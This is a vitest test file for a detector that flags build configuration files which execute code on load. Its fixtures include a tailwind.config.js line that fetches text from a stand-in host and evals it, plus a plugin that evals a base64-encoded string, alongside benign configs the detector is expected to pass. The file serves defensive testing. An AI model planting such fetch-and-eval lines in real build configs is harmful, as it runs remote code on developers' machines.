import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-build-config-acts.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

test.each<[string, Files, string[]]>([
  [
    'runs what it fetched',
    {
      'tailwind.config.js':
        "fetch('https://a.invalid').then((r) => r.text()).then((t) => eval(t))\nmodule.exports = {}",
    },
    ['decisive 13 tailwind.config.js:1:62'],
  ],
  [
    'through a plugin of its own',
    {
      'vite.config.ts': "import './tools/plugin'\nexport default {}",
      'tools/plugin.ts': "eval(Buffer.from('YWxlcnQoMSk7YWxlcnQoMik7', 'base64').toString())",
    },
    ['decisive 12 tools/plugin.ts:1:1'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'asks git',
    {
      'next.config.js':
        "const v = require('child_process').execSync('git rev-parse HEAD').toString()\nmodule.exports = { env: { v, key: process.env.KEY } }",
    },
    [],
  ],
  [
    'plugins',
    { 'postcss.config.js': 'module.exports = { plugins: { tailwindcss: {}, autoprefixer: {} } }' },
    [],
  ],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
